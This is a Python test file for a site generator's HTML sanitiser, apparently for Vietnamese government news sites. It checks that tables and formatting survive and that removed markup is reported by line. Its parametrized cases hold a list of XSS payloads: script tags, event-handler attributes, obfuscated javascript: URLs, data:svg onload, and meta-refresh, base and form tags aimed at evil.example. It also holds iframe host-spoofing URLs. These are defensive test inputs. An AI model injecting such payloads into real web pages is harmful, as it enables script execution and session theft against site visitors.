"""Raw HTML in articles: the usual formatting passes, anything that could run is removed, the editor is told where."""

import pytest
from hypothesis import given, settings, strategies as st

from conftest import MINIMAL_CONFIG, article, make_site, run_cli, soup
from sitegen.common.errors import BuildFailed
from sitegen.source.markdown import render_markdown
from sitegen.source.config import parse_config
from sitegen.source.sanitize import SanitizePolicy

YOUTUBE = SanitizePolicy(iframe_hosts=("www.youtube.com", "www.youtube-nocookie.com"))


def clean(body: str, policy: SanitizePolicy = SanitizePolicy()):
    rendered = render_markdown(body, "/", policy)
    return rendered, soup_of(rendered.html)


def soup_of(fragment: str):
    from bs4 import BeautifulSoup
    return BeautifulSoup(fragment, "html.parser")


def test_tables_figures_and_formatting_pass_unchanged():
    body = ("<table><caption>Kết quả</caption><thead><tr><th scope=\"col\" colspan=\"2\">Xã</th></tr></thead>"
            "<tbody><tr><td rowspan=\"2\">An Lộc</td><td>12</td></tr></tbody><tfoot><tr><td>Tổng</td></tr></tfoot>"
            "</table>\n\n<figure><img src=\"/anh/hoi-nghi.jpg\" alt=\"Hội nghị\" width=\"800\">"
            "<figcaption>Quang cảnh hội nghị</figcaption></figure>\n\n"
            "<p><strong>đậm</strong> <em>nghiêng</em> <u>gạch</u> <sub>2</sub><sup>3</sup> <abbr title=\"Ủy ban\">UB</abbr>"
            " <a href=\"https://dongthap.gov.vn/\">liên kết</a> <a href=\"mailto:a@b.vn\">thư</a></p>\n")
    rendered, html = clean(body)
    assert rendered.removed == ()
    assert html.find("caption").get_text() == "Kết quả"
    assert html.find("th")["colspan"] == "2" and html.find("th")["scope"] == "col"
    assert html.find("td")["rowspan"] == "2"
    assert html.find("tfoot") is not None
    assert html.select_one("figure img")["src"] == "/anh/hoi-nghi.jpg"
    assert html.select_one("figure figcaption").get_text() == "Quang cảnh hội nghị"
    assert [a["href"] for a in html.find_all("a")] == ["https://dongthap.gov.vn/", "mailto:a@b.vn"]
    for tag in ("strong", "em", "u", "sub", "sup", "abbr"):
        assert html.find(tag) is not None, tag


@pytest.mark.parametrize("hostile, what", [
    ("<script>alert(1)</script>", "thẻ <script>"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "thẻ <script>"),
    ("<style>body{display:none}</style>", "thẻ <style>"),
    ("<img src=x onerror=alert(1)>", "thuộc tính onerror của thẻ <img>"),
    ("<p onmouseover=\"alert(1)\">chữ</p>", "thuộc tính onmouseover của thẻ <p>"),
    ("<p style=\"position:fixed\">chữ</p>", "thuộc tính style của thẻ <p>"),
    ("<a href=\"javascript:alert(1)\">bấm</a>", "địa chỉ javascript: trong thẻ <a>"),
    ("<a href=\"JaVaScRiPt&#x3a;alert(1)\">bấm</a>", "địa chỉ javascript: trong thẻ <a>"),
    ("<a href=\"java&#9;script:alert(1)\">bấm</a>", "địa chỉ javascript: trong thẻ <a>"),
    ("<a href=\"&#106;avascript:alert(1)\">bấm</a>", "địa chỉ javascript: trong thẻ <a>"),
    ("[bấm](javascript:alert(1))", "địa chỉ javascript: trong thẻ <a>"),
    ("<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">", "địa chỉ data: trong thẻ <img>"),
    ("<form action=\"https://evil.example/\"><input name=p></form>", "thẻ <form>"),
    ("<button formaction=\"javascript:alert(1)\">Gửi</button>", "thẻ <button>"),
    ("<textarea>x</textarea>", "thẻ <textarea>"),
    ("<object data=\"x.swf\"></object>", "thẻ <object>"),
    ("<embed src=\"x.swf\">", "thẻ <embed>"),
    ("<svg><script>alert(1)</script></svg>", "thẻ <svg>"),
    ("<iframe src=\"https://www.youtube.com/embed/x\"></iframe>", "khung nhúng <iframe> từ www.youtube.com"),
    ("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">", "thẻ <meta>"),
    ("<base href=\"https://evil.example/\">", "thẻ <base>"),
    ("<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">", "thẻ <link>"),
])
def test_hostile_html_is_removed_and_reported(hostile, what):
    body = f"\nĐoạn mở đầu.\n\n{hostile}\n\nĐoạn cuối.\n"
    rendered, html = clean(body)
    assert rendered.removed and rendered.removed[0].what == what
    assert {r.line for r in rendered.removed} == {4}
    for tag in ("script", "style", "form", "input", "button", "textarea", "object", "embed", "svg", "iframe",
                "meta", "base", "link"):
        assert html.find(tag) is None, tag
    for element in html.find_all(True):
        for name, value in element.attrs.items():
            assert not name.startswith("on") and name != "style", element
            assert "javascript" not in str(value).lower() and "data:" not in str(value), element
    assert "alert" not in rendered.html.replace("Đoạn", "")
    assert "Đoạn mở đầu." in rendered.plain_text and "Đoạn cuối." in rendered.plain_text


def test_iframes_only_from_listed_https_hosts():
    body = ("<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" allowfullscreen></iframe>\n\n"
            "<iframe src=\"https://evil.example/x\"></iframe>\n\n"
            "<iframe src=\"http://www.youtube.com/embed/abc\"></iframe>\n\n"
            "<iframe src=\"https://www.youtube.com.evil.example/\"></iframe>\n\n"
            "<iframe src=\"https://www.youtube.com@evil.example/\"></iframe>\n\n"
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>\n")
    rendered, html = clean(body, YOUTUBE)
    frames = html.find_all("iframe")
    assert [f["src"] for f in frames] == ["https://www.youtube.com/embed/abc"]
    assert frames[0]["width"] == "560"
    assert [r.line for r in rendered.removed] == [3, 5, 7, 9, 11]


def test_code_that_shows_html_is_not_a_removal():
    body = "Viết `<script>` trong mã.\n\n    <iframe src=\"https://evil.example\"></iframe>\n"
    rendered, html = clean(body)
    assert rendered.removed == ()
    assert "<script>" in html.find("code").get_text()


def test_build_warns_with_file_and_line_and_page_is_clean(tmp_path):
    body = "Đoạn một.\n\n<script>alert('x')</script>\n\n<img src=\"/a.jpg\" onerror=\"alert(1)\" alt=\"ảnh\">\n"
    root = make_site(tmp_path / "site", {"content/tin-tuc/bai.md": article(body=body)})
    result = run_cli("build", "--root", str(root))
    assert result.returncode == 0, result.stderr
    # article(): 5 lines of front matter, a blank line, then the body from line 7
    assert "content/tin-tuc/bai.md:9: cảnh báo: đã bỏ thẻ <script>" in result.stderr
    assert "content/tin-tuc/bai.md:11: cảnh báo: đã bỏ thuộc tính onerror của thẻ <img>" in result.stderr
    page = soup(root / "public/tin-tuc/bai-viet-thu/index.html")
    assert page.select_one("main script") is None
    assert page.select_one("main img").get("onerror") is None


def test_site_toml_lists_iframe_hosts(tmp_path):
    config = MINIMAL_CONFIG + '\n[security]\niframe_hosts = ["www.youtube-nocookie.com"]\n'
    body = "<iframe src=\"https://www.youtube-nocookie.com/embed/abc\" title=\"Video hội nghị\"></iframe>\n"
    root = make_site(tmp_path / "site", {"content/tin-tuc/bai.md": article(body=body)}, config=config)
    result = run_cli("build", "--root", str(root))
    assert result.returncode == 0, result.stderr
    assert "iframe" not in result.stderr
    page = soup(root / "public/tin-tuc/bai-viet-thu/index.html")
    assert page.select_one("main iframe")["src"] == "https://www.youtube-nocookie.com/embed/abc"
    policy = page.find("meta", attrs={"http-equiv": "Content-Security-Policy"})["content"]
    assert "frame-src https://www.youtube-nocookie.com" in policy


@pytest.mark.parametrize("value", ['["https://www.youtube.com/"]', '["www.youtube.com/embed"]', '[1]', '"www.youtube.com"'])
def test_iframe_hosts_must_be_host_names(value):
    with pytest.raises(BuildFailed) as failure:
        parse_config(MINIMAL_CONFIG + f"\n[security]\niframe_hosts = {value}\n")
    problem = failure.value.problems[0]
    assert problem.line == MINIMAL_CONFIG.count("\n") + 3
    assert "iframe_hosts" in problem.message


def test_unknown_security_key_is_refused():
    with pytest.raises(BuildFailed) as failure:
        parse_config(MINIMAL_CONFIG + "\n[security]\niframe_host = [\"www.youtube.com\"]\n")
    assert "Có phải ý bạn là \"iframe_hosts\"?" in failure.value.problems[0].hint


def test_images_from_other_sites_are_removed_because_the_browser_would_block_them():
    policy = SanitizePolicy(site_host="example.gov.vn")
    body = ("![Ảnh trong trang](/anh/a.jpg)\n\n![Ảnh cùng trang](https://example.gov.vn/anh/b.jpg)\n\n"
            "![Ảnh nơi khác](https://cdn.other.example/c.jpg)\n\n<img src=\"//cdn.other.example/d.jpg\" alt=\"d\">\n\n"
            "<img src=\"/anh/e.jpg\" srcset=\"/anh/e.jpg 1x, https://cdn.other.example/e2.jpg 2x\" alt=\"e\">\n")
    rendered, html = clean(body, policy)
    # A Markdown image of the site's own is a photo: kept as a placeholder the media step fills in.
    assert [reference.target for reference in rendered.media] == ["/anh/a.jpg"]
    assert [img["src"] for img in html.find_all("img")] == ["https://example.gov.vn/anh/b.jpg", "/anh/e.jpg"]
    assert html.find_all("img")[-1].get("srcset") is None
    assert [(r.line, r.what) for r in rendered.removed] == [
        (5, "ảnh lấy từ trang khác (cdn.other.example)"), (7, "ảnh lấy từ trang khác (cdn.other.example)"),
        (9, "ảnh lấy từ trang khác (cdn.other.example)")]


# --- Markdown without raw HTML: the removal finder reads the serialiser's tags with a regular
# expression instead of HTMLParser (sanitize.py). It must find exactly what the parser finds.

_PIECES = [
    "Đoạn văn có **đậm**, *nghiêng* và `mã`.", "## Tiêu đề mục", "- mục một\n- mục hai",
    "[liên kết](https://dongthap.gov.vn/)", "[thư](mailto:a@b.vn)", "[bấm](javascript:alert(1))",
    "[bấm](JaVaScRiPt:alert(1))", "[tệp](data:text/html,x)", "[tel](tel:0277)", "[trong](/tin-tuc/)",
    "![ảnh](https://cdn.other.example/a.jpg)", "![ảnh](//cdn.other.example/b.jpg \"chú thích\")",
    "![ảnh cùng trang](https://example.gov.vn/c.jpg)", "Một câu có chú thích[^1].\n\n[^1]: Chú thích.",
    "| Xã | Số |\n|:---|---:|\n| An Lộc | 12 |", "Đoạn có thuộc tính\n{: onclick=\"alert(1)\" style=\"color: red\" }",
    "### Mục có mã số {: #muc-1 .noi-bat data-x=\"1\" }", "*[UBND]: Ủy ban nhân dân\n\nUBND thành phố.",
    "Dấu & và \"ngoặc kép\" và 'nháy'.", "Term\n: Định nghĩa", "```\nmã & \"chữ\"\n```", "---",
    "[a](https://x.example/?q=\"1\"&b=2)", "![](https://example.gov.vn/x.jpg){: onerror=\"x\" }",
    "[bấm](javascript:a('x')&b)", "![](https://cdn.other.example/a.jpg?x=1&y=2)", "Ẩn\n{: hidden=\"hidden\" }",
]


def _parser_removals(body: str, policy: SanitizePolicy):
    from sitegen.source.markdown import _converter
    from sitegen.source.sanitize import _RemovalFinder
    converter = _converter("/")
    converter.reset()
    converter.treeprocessors["media-references"].start(body)
    raw_html = converter.convert(body)
    finder = _RemovalFinder(policy)
    finder.feed(raw_html)
    finder.close()
    return raw_html, finder.found


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), min_size=1, max_size=6))
def test_markdown_without_raw_html_gets_the_same_removals_as_with_the_parser(pieces):
    from sitegen.source.sanitize import _RemovalFinder
    body = "\n\n".join(pieces) + "\n"
    assert "<" not in body
    policy = SanitizePolicy(site_host="example.gov.vn")
    raw_html, by_parser = _parser_removals(body, policy)
    fast = _RemovalFinder(policy)
    fast.scan_serialized(raw_html)
    assert fast.found == by_parser


def test_removals_without_raw_html_are_reported_at_their_line():
    body = "Mở đầu.\n\n[bấm](javascript:alert(1))\n\nĐoạn\n{: onclick=\"x\" }\n\n![](https://cdn.other.example/a.jpg)\n"
    rendered, html = clean(body, SanitizePolicy(site_host="example.gov.vn"))
    assert [(r.line, r.what) for r in rendered.removed] == [
        (3, "địa chỉ javascript: trong thẻ <a>"), (6, "thuộc tính onclick của thẻ <p>"),
        (8, "ảnh lấy từ trang khác (cdn.other.example)")]
    assert html.find("img") is None and html.find("p", onclick=True) is None
